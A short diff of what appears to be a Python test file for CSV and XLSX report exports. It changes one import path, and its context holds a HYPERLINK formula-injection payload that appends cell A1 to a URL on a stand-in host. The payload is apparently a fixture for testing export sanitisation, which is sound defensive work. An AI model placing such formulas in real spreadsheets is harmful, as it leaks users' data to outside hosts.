@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from services.reporting.exports import to_csv, to_xlsx
 from services.reporting.periods import parse_period, report_day
-from shared.rules import RuleViolation
+from shared.kernel.rules import RuleViolation
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Sơn Động")'
 
